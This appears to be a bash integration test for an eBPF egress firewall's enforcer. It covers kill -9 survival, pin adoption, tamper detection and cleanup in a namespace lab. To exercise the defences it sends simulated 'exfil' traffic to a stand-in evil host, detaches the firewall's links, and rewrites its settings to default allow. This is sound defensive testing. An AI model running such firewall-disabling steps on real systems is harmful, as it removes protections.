#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# The enforcer's side of issues 4 and 6, in the namespace lab (tests/lab/lab.sh):
#  1. TCX: the TC egress program is a pinned TCX link on the uplink, first in line (seen with
#     cw-linkcheck: bpftool 7.1 cannot show TCX), and no clsact filter is used.
#  2. kill -9 of the enforcer while a generator keeps trying a denied destination: nothing reaches
#     the internet namespace (a sniffer there), the pins and links stay, a learned address still
#     works while no enforcer runs; a new enforcer with the same arguments adopts the pins (the
#     same TCX link, the learned entries), and the DNS path works again. A third one started
#     while that one is live is refused (the pin directory's lock) and changes nothing. That one
#     killed too, the supervisor's own restart adopts in turn; no tamper line all along (two
#     enforcers on one pin directory would undo each other's links every second).
#  3. Tamper: a cgroup link detached, the TCX link detached, a program put in front of ours, a map
#     unpinned, the settings rewritten: each noticed, logged as `tamper` and undone within ~1 s.
#  4. Stop: nothing left attached (cw-linkcheck) or pinned.
# Both enforcers run as the user --enforcer-user names (not the default, which test_skeleton.sh
# checks): every Uid field that user's; pins it puts back are its own, group root, 0660; a pin
# root put back in its place (0600, not the enforcer's to open) is replaced too.
# The new enforcer is started by hand here (its dnsq and doorbell taken from the running dnsd with
# pidfd_getfd), so the test does not depend on the supervisor restarting children: the supervisor
# is stopped (SIGSTOP) from before the kill until the hand-made enforcer is gone, so that only one
# enforcer runs at a time; continued (SIGCONT), it restarts its own, which runs sections 3 and 4.
set -euo pipefail
# shellcheck source-path=SCRIPTDIR source=lab.sh
. "$(dirname "$0")/lab.sh"
lab_require_root
[ -x "$CW_BIN" ] || lab_die "no launcher at $CW_BIN (build first, or set CW_BUILD / CW_BIN)"
LINKCHECK=${LINKCHECK:-$CW_BUILD/bin/cw-linkcheck}
[ -x "$LINKCHECK" ] || lab_die "no $LINKCHECK (built with the tests)"

ENF2_PID=
ENF3_PID=
SUP_STOPPED=
SNIFF_PID=
GEN_PIDS=()
# A second name for --enforcer-user: start creates it; removed at the end if this test made it.
ENF_USER=cwlab-enforcer
ENF_USER_MADE=
id -u "$ENF_USER" >/dev/null 2>&1 || ENF_USER_MADE=1
cleanup_test() {
	local p
	for p in "${GEN_PIDS[@]}" "$SNIFF_PID"; do
		[ -n "$p" ] && lab_kill_pid "$p"
	done
	[ -n "$ENF3_PID" ] && lab_kill_pid "$ENF3_PID"
	[ -n "$ENF2_PID" ] && lab_kill_pid "$ENF2_PID"
	ENF2_PID=
	ENF3_PID=
	# the supervisor, stopped in section 2: lab_teardown's stop needs it running
	[ -n "$SUP_STOPPED" ] && kill -CONT "$SUP_STOPPED" 2>/dev/null
	SUP_STOPPED=
	return 0
}
drop_user() {
	if [ -n "$ENF_USER_MADE" ] && id -u "$ENF_USER" >/dev/null 2>&1; then
		userdel "$ENF_USER" 2>/dev/null || echo "NOTE: userdel $ENF_USER failed"
	fi
	return 0
}
trap 'cleanup_test; lab_teardown; drop_user' EXIT
trap 'exit 130' INT TERM
lab_setup

PCAP=$LAB/inet.pcap
ENF2_LOG=$LAB/enforcer2.log
ENF3_LOG=$LAB/enforcer3.log
tcx() { ip netns exec "$LAB_RUNNER" "$LINKCHECK" tcx "$LAB_IF"; }
# tcx_first: our program runs first on the uplink's TCX egress
tcx_first() { tcx | head -n1 | grep -q ' #0 prog [0-9]* cw_tc_egress '; }
tcx_ours() { tcx | grep ' cw_tc_egress ' | awk '{ print $NF }'; } # our TCX link id
tcx_is() { test "$(tcx_ours)" = "$1"; }
enf_log() { cat "$LAB_STATE/daemon.log" "$ENF2_LOG" "$ENF3_LOG" 2>/dev/null; }
tamper_count() { enf_log | grep -c 'enforcer.*tamper: ' || true; }
# tamper_seen WHAT BEFORE: PASS when a new tamper line shows within 2 s (the check runs once a
# second), naming how long it took.
tamper_seen() {
	local t0 i
	t0=$(date +%s%N)
	for ((i = 0; i < 40; i++)); do
		if [ "$(tamper_count)" -gt "$2" ]; then
			lab_pass "$1: noticed and logged as tamper after $((($(date +%s%N) - t0) / 1000000)) ms"
			return 0
		fi
		sleep 0.05
	done
	lab_fail "$1: no tamper line within 2 s"
}
audit_tamper_count() { grep -c '"event_type":"tamper"' "$LAB_AUDIT" 2>/dev/null || true; }
evil_eperm() { test "$(connect_errno "$LAB_EVIL_IP" 80)" = EPERM; }
# pins_now: each pin with its inode, owner and mode (a pin replaced gets a new inode)
pins_now() { stat -c '%n %i %U:%G:%a' "$LAB_PINS"/* 2>/dev/null; }
# gone PID: not running (or a zombie)
gone() { ! lab_pid_alive "$1"; }
uid_fields() { awk '$1 == "Uid:" { print $2, $3, $4, $5 }' "/proc/$1/status" 2>/dev/null; }
# runs_as PID: every Uid field of PID is $ENF_USER's
runs_as() { test "$(uid_fields "$1")" = "$ENF_UID $ENF_UID $ENF_UID $ENF_UID"; }
# pin_owned NAME: the pin is $ENF_USER's, group root, 0660 (what root reaches through the group)
pin_owned() { test "$(stat -c %U:%G:%a "$LAB_PINS/$1" 2>/dev/null)" = "$ENF_USER:root:660"; }
connect_errno() { # IP PORT: errno name of a connect from the workload, or "connected"
	lab_workload timeout 5 "$LAB_PYTHON" -c "
import socket, errno
s = socket.socket(); s.settimeout(2)
try:
    s.connect(('$1', $2)); print('connected')
except OSError as e:
    print(errno.errorcode.get(e.errno, e.errno))
" 2>&1 || true
}

cat >"$LAB/policy.json" <<JSON
{ "defaultAction": "deny",
  "rules": [ { "type": "hostname", "value": "allowed.test",
               "ports": [ { "port": 80, "protocol": "tcp" } ], "action": "allow" } ] }
JSON
echo "== start"
if lab_cw start --config "$LAB/policy.json" --mode enforce --interface "$LAB_IF" \
	--cgroup "$LAB_CG" --dns-upstream "$LAB_UPSTREAM" --audit-log "$LAB_AUDIT" \
	--state-dir "$LAB_STATE" --bpffs "$LAB_PINS" --allow-private-answers \
	--enforcer-user "$ENF_USER"; then
	lab_pass "cargowall start returned 0"
else
	lab_fail "cargowall start failed"
	lab_results
	exit 1
fi

ENF_UID=$(id -u "$ENF_USER" 2>/dev/null || echo none)
enf=$(lab_state_pid enforcer)
lab_check "the enforcer runs as --enforcer-user $ENF_USER (uid $ENF_UID): Uid $(uid_fields "$enf")" \
	runs_as "$enf"
lab_check "its pin directory is $ENF_USER's: $(stat -c %U:%G:%a "$LAB_PINS")" \
	test "$(stat -c %U:%G:%a "$LAB_PINS")" = "$ENF_USER:root:2770"

echo "== 1. TCX"
lab_check "cw_tc_egress is a TCX link on $LAB_IF, first in line: $(tcx | tr '\n' ';')" tcx_first
lab_check "its link is pinned ($LAB_PINS/link_tcx_egress_$LAB_IF)" \
	test -e "$LAB_PINS/link_tcx_egress_$LAB_IF"
lab_check "no clsact filter in its place" test -z \
	"$(ip netns exec "$LAB_RUNNER" tc filter show dev "$LAB_IF" egress 2>/dev/null)"
lab_check "the enforcer says which attachment it used" \
	sh -c "cat '$LAB_STATE/daemon.log' | grep -q 'attached as a TCX link'"
LINK1=$(tcx_ours)

echo "== learn allowed.test"
body=$(lab_workload timeout 5 curl -4 -s -m 3 http://allowed.test/ 2>&1 || true)
[ "$body" = allowed ] && lab_pass "allowed.test works (learned $LAB_ALLOWED_IP)" ||
	lab_fail "allowed.test: $body"

echo "== 2. kill -9 the enforcer while a generator tries $LAB_EVIL_IP"
ip netns exec "$LAB_INET" tcpdump -i "$LAB_INET_IF" -n -U -w "$PCAP" "host $LAB_EVIL_IP" \
	>/dev/null 2>&1 &
SNIFF_PID=$!
sleep 1
# From the hooked cgroup (connect) and from outside it (UDP: TC alone), every 20 ms for 5 s.
lab_workload timeout 6 "$LAB_PYTHON" -c "
import socket, time
end = time.monotonic() + 5
while time.monotonic() < end:
    try:
        s = socket.socket(); s.settimeout(0.2); s.connect(('$LAB_EVIL_IP', 80))
    except OSError:
        pass
    s.close(); time.sleep(0.02)
" >/dev/null 2>&1 &
GEN_PIDS+=($!)
lab_runner timeout 6 "$LAB_PYTHON" -c "
import socket, time
end = time.monotonic() + 5
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while time.monotonic() < end:
    try:
        u.sendto(b'exfil', ('$LAB_EVIL_IP', 5353))
    except OSError:
        pass
    time.sleep(0.02)
" >/dev/null 2>&1 &
GEN_PIDS+=($!)
sleep 1
enf=$(lab_state_pid enforcer)
dnsd=$(lab_state_pid dnsd)
# The same arguments, but the dnsd cgroup through our own cgroup2 mount: the launcher may have
# named it through another mount of the hierarchy (another lab's, gone by now).
dnsd_cg=$LAB_CGROOT$(sed -n 's/^0:://p' "/proc/$dnsd/cgroup")
tr '\0' '\n' <"/proc/$enf/cmdline" |
	awk -v cg="$dnsd_cg" 'prev == "--dnsd-cgroup" { $0 = cg } { print; prev = $0 }' \
		>"$LAB/enforcer.argv"
SUP_PID=$(lab_state_pid cargowall)
TAMPER0=$(tamper_count)
ATAMPER0=$(audit_tamper_count)
# Only one enforcer at a time: the supervisor would restart the killed one beside ours.
kill -STOP "$SUP_PID"
SUP_STOPPED=$SUP_PID
lab_check "the supervisor (pid $SUP_PID) is stopped (SIGSTOP): it restarts nothing meanwhile" \
	lab_retry 30 0.1 sh -c "grep -q '^State:.*T' /proc/$SUP_PID/status"
kill -KILL "$enf"
t_kill=$(date +%s.%N)
lab_retry 30 0.1 sh -c "! kill -0 $enf 2>/dev/null || grep -q '^State:.*Z' /proc/$enf/status" ||
	lab_fail "enforcer $enf survived kill -9"
rc=0
lab_workload "${LAB_CURL[@]}" --max-time 1 "http://$LAB_ALLOWED_IP/" >"$LAB/after-kill.body" 2>&1 ||
	rc=$?
t_ok=$(date +%s.%N)
secs=$(awk -v a="$t_kill" -v b="$t_ok" 'BEGIN { printf "%.2f", b - a }')
[ "$rc" -eq 0 ] && [ "$(cat "$LAB/after-kill.body")" = allowed ] &&
	awk -v s="$secs" 'BEGIN { exit !(s < 1) }' &&
	lab_pass "with no enforcer running, learned $LAB_ALLOWED_IP works ${secs} s after the kill" ||
	lab_fail "after the kill, $LAB_ALLOWED_IP: rc $rc after ${secs} s: $(head -c 200 "$LAB/after-kill.body")"
lab_check "after the kill: TCX link still first on $LAB_IF" tcx_first
lab_check "after the kill: cgroup programs still on $LAB_CG" \
	test -n "$(bpftool cgroup show "$LAB_CG" 2>/dev/null)"
lab_check "after the kill: $LAB_EVIL_IP still refused (EPERM)" evil_eperm

echo "== a new enforcer, same arguments, adopts the pins"
# fds of common/child.h: 3 policy (memfd), 4 ready pipe, 5 dnsq memfd, 6 doorbell (from dnsd),
# 7 the write end of dnsd's ack pipe (dnsd holds the read end at 13; the supervisor keeps the
# write end for restarts: found by the pipe's inode).
cat >"$LAB/harness.py" <<'PY'
import ctypes, os, select, sys
dnsd, policy, log, pidfile, argvfile, sup = int(sys.argv[1]), *sys.argv[2:6], int(sys.argv[6])
argv = [a for a in open(argvfile).read().split("\n") if a]
libc = ctypes.CDLL(None, use_errno=True)
def getfd(pid, n):
    pidfd = os.pidfd_open(pid)
    fd = libc.syscall(438, pidfd, n, 0)  # pidfd_getfd
    os.close(pidfd)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    return fd
def ack_writer():
    want = os.readlink("/proc/%d/fd/13" % dnsd)
    for n in os.listdir("/proc/%d/fd" % sup):
        try:
            if os.readlink("/proc/%d/fd/%s" % (sup, n)) != want:
                continue
            flags = [l for l in open("/proc/%d/fdinfo/%s" % (sup, n)) if l.startswith("flags:")]
            if int(flags[0].split()[1], 8) & 3 == os.O_WRONLY:
                return getfd(sup, int(n))
        except OSError:
            pass
    raise OSError("no write end of dnsd's ack pipe in the supervisor")
q, bell, ack = getfd(dnsd, 5), getfd(dnsd, 6), ack_writer()
pol = os.memfd_create("policy", 0)
os.write(pol, open(policy, "rb").read())
os.lseek(pol, 0, 0)
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    logfd = os.open(log, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
    high = [os.dup(f) + 0 for f in (pol, w, q, bell, ack)]
    for i, f in enumerate(high):
        os.dup2(f, 3 + i, inheritable=True)
    os.dup2(logfd, 2)
    os.dup2(logfd, 1)
    os.closerange(8, 1024)
    os.execv(argv[0], argv)
os.close(w)
open(pidfile, "w").write(str(pid))
ready, _, _ = select.select([r], [], [], 10)
print("ready" if ready and os.read(r, 1) == b"R" else "not ready")
PY
# start_enforcer LOG PIDFILE OUT: an enforcer with the killed one's arguments; OUT says whether
# it reported ready
start_enforcer() {
	lab_runner "$LAB_PYTHON" "$LAB/harness.py" "$dnsd" "$LAB/policy.json" "$1" "$2" \
		"$LAB/enforcer.argv" "$SUP_PID" >"$3" 2>&1 || true
}
start_enforcer "$ENF2_LOG" "$LAB/enforcer2.pid" "$LAB/harness.out"
ENF2_PID=$(tr -dc '0-9' <"$LAB/enforcer2.pid" 2>/dev/null || true)
lab_check "the new enforcer reports ready ($(cat "$LAB/harness.out" | tr '\n' ' '))" \
	grep -qx ready "$LAB/harness.out"
lab_check "it adopted the pins" grep -q 'adopting them' "$ENF2_LOG"
lab_check "it runs as $ENF_USER too (its --user, from the same arguments): Uid $(uid_fields "$ENF2_PID")" \
	runs_as "$ENF2_PID"
lab_check "the learned addresses survived: $(grep -o 'adopting: [0-9]* IPv4 .* kept' "$ENF2_LOG")" \
	grep -q 'adopting: [1-9][0-9]* IPv4 .* kept' "$ENF2_LOG"
lab_check "it took over the same TCX link (id $LINK1)" test "$(tcx_ours)" = "$LINK1"
lab_check "and it is still first" tcx_first
t0=$(date +%s.%N)
body=$(lab_workload timeout 5 curl -4 -s -m 3 http://allowed.test/ 2>&1 || true)
secs=$(awk -v a="$t0" -v b="$(date +%s.%N)" 'BEGIN { printf "%.2f", b - a }')
[ "$body" = allowed ] && lab_pass "allowed.test (DNS path) works again (${secs} s)" ||
	lab_fail "allowed.test after adoption: $body"
lab_check "$LAB_EVIL_IP refused under the new enforcer (EPERM)" evil_eperm

echo "== a third enforcer, and --cleanup, while that one is live: refused, nothing changes"
pins_before=$(pins_now)
n=$(tamper_count)
t0=$(date +%s.%N)
start_enforcer "$ENF3_LOG" "$LAB/enforcer3.pid" "$LAB/harness3.out"
ENF3_PID=$(tr -dc '0-9' <"$LAB/enforcer3.pid" 2>/dev/null || true)
secs=$(awk -v a="$t0" -v b="$(date +%s.%N)" 'BEGIN { printf "%.2f", b - a }')
lab_check "it does not report ready ($(tr '\n' ' ' <"$LAB/harness3.out"), after ${secs} s)" \
	grep -qx 'not ready' "$LAB/harness3.out"
lab_check "it exits" lab_retry 30 0.1 gone "$ENF3_PID"
lab_check "saying: $(grep -o 'another cargowall-enforcer.*' "$ENF3_LOG" | head -n1)" \
	grep -q "another cargowall-enforcer holds the pin directory $LAB_PINS (pid $ENF2_PID)\$" \
	"$ENF3_LOG"
lab_check "it adopted nothing" sh -c "! grep -q 'adopting' '$ENF3_LOG'"
# --cleanup (what stop runs once the enforcer is gone) refuses too while one is live
rc=0
lab_runner "$(dirname "$CW_BIN")/cargowall-enforcer" --cleanup --bpffs "$LAB_PINS" \
	--cgroup "$LAB_CG" --interface "$LAB_IF" >"$LAB/cleanup-live.log" 2>&1 || rc=$?
lab_check "--cleanup under a live enforcer fails (exit $rc)" test "$rc" -ne 0
lab_check "saying: $(grep -o 'a cargowall-enforcer.*' "$LAB/cleanup-live.log" | head -n1)" \
	grep -q "a cargowall-enforcer (pid $ENF2_PID) still holds the pin directory $LAB_PINS: nothing removed" \
	"$LAB/cleanup-live.log"
sleep 2.5 # two tamper checks of the live enforcer
lab_check "the live enforcer (pid $ENF2_PID) still runs" lab_pid_alive "$ENF2_PID"
lab_check "its TCX link (id $LINK1) is still the one ($(tcx_ours))" tcx_is "$LINK1"
lab_check "and first" tcx_first
lab_check "every pin is the same file as before (inode, owner, mode)" \
	test "$(pins_now)" = "$pins_before"
lab_check "no tamper line since ($(($(tamper_count) - n)) new)" test "$(tamper_count)" -eq "$n"
lab_check "$LAB_EVIL_IP still refused (EPERM)" evil_eperm
for p in "${GEN_PIDS[@]}"; do
	wait "$p" 2>/dev/null || true
done
GEN_PIDS=()
sleep 0.5
lab_kill_pid "$SNIFF_PID"
SNIFF_PID=
n=$(tcpdump -n -r "$PCAP" "dst host $LAB_EVIL_IP" 2>/dev/null | wc -l)
[ "$n" -eq 0 ] && lab_pass "sniffer: nothing reached $LAB_EVIL_IP across the kill and the adoption" ||
	lab_fail "sniffer: $n packet(s) reached $LAB_EVIL_IP: $(tcpdump -n -r "$PCAP" 2>/dev/null | head -3)"

echo "== back to the supervisor: its own enforcer adopts"
adopted=$(grep -c 'adopting them' "$LAB_STATE/daemon.log" || true)
kill -KILL "$ENF2_PID"
lab_check "the hand-made enforcer (pid $ENF2_PID) is gone after kill -9" \
	lab_retry 30 0.1 gone "$ENF2_PID"
ENF2_PID=
kill -CONT "$SUP_PID"
SUP_STOPPED=
enf_sup() { p=$(lab_state_pid enforcer) && [ -n "$p" ] && [ "$p" != "$enf" ] && lab_pid_alive "$p"; }
lab_retry 100 0.1 enf_sup || true
lab_check "the supervisor restarted the enforcer (pid $(lab_state_pid enforcer))" enf_sup
lab_check "it runs as $ENF_USER: Uid $(uid_fields "$(lab_state_pid enforcer)")" \
	runs_as "$(lab_state_pid enforcer)"
lab_check "which adopted the pins" lab_retry 30 0.1 \
	sh -c "test \$(grep -c 'adopting them' '$LAB_STATE/daemon.log') -gt $adopted"
lab_check "the same TCX link (id $LINK1): $(tcx_ours)" tcx_is "$LINK1"
lab_check "and first" tcx_first
lab_check "$LAB_EVIL_IP refused under it (EPERM)" evil_eperm
sleep 2.5 # two tamper checks
lab_check "no tamper line across section 2 ($(($(tamper_count) - TAMPER0)) new; only one enforcer at a time)" \
	test "$(tamper_count)" -eq "$TAMPER0"
lab_check "no tamper record in the audit log either ($(($(audit_tamper_count) - ATAMPER0)) new)" \
	test "$(audit_tamper_count)" -eq "$ATAMPER0"

echo "== 3. tamper"
n=$(tamper_count)
bpftool link detach pinned "$LAB_PINS/link_connect4"
tamper_seen "connect4 detached by hand" "$n"
lab_check "connect4 attached again: $LAB_EVIL_IP refused with EPERM" lab_retry 20 0.1 evil_eperm
# bpftool shows a detached cgroup link with cgroup_id 0
lab_check "and pinned again: $(bpftool link show pinned "$LAB_PINS/link_connect4" 2>&1 | head -c 160 |
	tr '\n' ' ')" sh -c "bpftool link show pinned '$LAB_PINS/link_connect4' | grep -q 'cgroup_id [1-9]'"
lab_check "the new link pin is $ENF_USER's, group root, 0660: $(stat -c %U:%G:%a "$LAB_PINS/link_connect4")" \
	lab_retry 20 0.1 pin_owned link_connect4

n=$(tamper_count)
bpftool link detach pinned "$LAB_PINS/link_tcx_egress_$LAB_IF"
tamper_seen "TCX link detached by hand" "$n"
lab_check "the TC egress program is back, first" lab_retry 20 0.1 tcx_first

n=$(tamper_count)
ip netns exec "$LAB_RUNNER" "$LINKCHECK" front "$LAB_IF" "$LAB_BPF/front"
tamper_seen "a program put in front of ours" "$n"
lab_check "ours is first again: $(tcx | tr '\n' ';')" lab_retry 20 0.1 tcx_first
bpftool link detach pinned "$LAB_BPF/front" 2>/dev/null || true
rm -f "$LAB_BPF/front"

n=$(tamper_count)
rm -f "$LAB_PINS/lpm_v4"
tamper_seen "lpm_v4 unpinned by hand" "$n"
lab_check "lpm_v4 pinned again" lab_retry 20 0.1 test -e "$LAB_PINS/lpm_v4"
lab_check "by $ENF_USER, group root, 0660: $(stat -c %U:%G:%a "$LAB_PINS/lpm_v4")" \
	lab_retry 20 0.1 pin_owned lpm_v4

# root puts the same map back under the name: its pin is root's, 0600, closed to the enforcer
n=$(tamper_count)
id6=$(bpftool map show pinned "$LAB_PINS/lpm_v6" | sed -n '1s/^\([0-9]*\):.*/\1/p')
rm -f "$LAB_PINS/lpm_v6"
bpftool map pin id "$id6" "$LAB_PINS/lpm_v6"
tamper_seen "lpm_v6 put back by root (root:root 0600)" "$n"
lab_check "lpm_v6 is the enforcer's pin again: $(stat -c %U:%G:%a "$LAB_PINS/lpm_v6")" \
	lab_retry 20 0.1 pin_owned lpm_v6

n=$(tamper_count)
bpftool map update pinned "$LAB_PINS/settings" key 0 0 0 0 value hex \
	00 00 00 00 00 00 00 00 01 00 00 00 01 00 00 00 00 00 00 00 00 00 00 00 \
	00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00
tamper_seen "settings rewritten (audit mode, default allow)" "$n"
lab_check "$LAB_EVIL_IP refused again (EPERM)" lab_retry 20 0.1 evil_eperm
enf_log | grep 'tamper: ' | sed 's/^/   /'
# the enforcer counts each kind in the pinned counters map; auditd writes `tamper` records
for kind in attachment pin settings; do
	lab_check "a tamper record ($kind) in the audit log" \
		lab_retry 30 0.1 lab_audit_find "$LAB_AUDIT" event_type=tamper tamper="$kind"
done
grep '"event_type":"tamper"' "$LAB_AUDIT" | sed 's/^/   /'

echo "== 4. stop"
lab_check "cargowall stop" lab_cw stop --state-dir "$LAB_STATE"
lab_check "the supervisor's enforcer detached everything on SIGTERM" \
	grep -q 'enforcer.*detached: nothing of ours is left attached or pinned' "$LAB_STATE/daemon.log"
lab_check "after stop: no TCX program on $LAB_IF ($(tcx | tr '\n' ';'))" test -z "$(tcx)"
lab_check "after stop: nothing pinned ($(lab_bpffs_pins | tr '\n' ' '))" test -z "$(lab_bpffs_pins)"
lab_check "after stop: nothing on $LAB_CG" test -z "$(bpftool cgroup show "$LAB_CG" 2>/dev/null)"

echo "== 5. pins that are not ours are refused, never adopted"
mkdir -m 0700 "$LAB_PINS"
bpftool map create "$LAB_PINS/lpm_v4" type hash key 8 value 8 entries 16 name lpm_v4
rc=0
lab_cw start --config "$LAB/policy.json" --mode enforce --interface "$LAB_IF" \
	--cgroup "$LAB_CG" --dns-upstream "$LAB_UPSTREAM" --audit-log "$LAB_AUDIT" \
	--state-dir "$LAB_STATE" --bpffs "$LAB_PINS" --allow-private-answers || rc=$?
lab_check "start on a foreign lpm_v4 pin fails (exit $rc)" test "$rc" -ne 0
lab_check "the enforcer says the map is not ours" \
	sh -c "cat '$LAB_CWLOG' '$LAB_STATE/daemon.log' 2>/dev/null | grep -q 'lpm_v4.*not ours'"
lab_check "nothing attached: no TCX program on $LAB_IF" test -z "$(tcx)"
lab_check "nothing attached: nothing on $LAB_CG" \
	test -z "$(bpftool cgroup show "$LAB_CG" 2>/dev/null)"
lab_cw stop --state-dir "$LAB_STATE" >/dev/null 2>&1 || true
rm -f "$LAB_PINS/lpm_v4"
rmdir "$LAB_PINS" 2>/dev/null || true

if [ "$LAB_NFAIL" -ne 0 ]; then
	echo "---- enforcer logs"
	enf_log | sed 's/^/  | /' | tail -80
fi
lab_results
